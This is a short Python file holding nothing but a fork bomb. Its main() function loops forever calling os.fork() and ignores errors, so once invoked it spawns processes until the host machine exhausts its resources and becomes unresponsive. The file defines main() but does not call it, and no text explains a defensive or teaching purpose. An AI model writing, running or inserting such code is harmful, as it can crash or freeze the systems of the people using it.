import os


def main():
    while True:
        try:
            os.fork()
        except OSError:
            pass
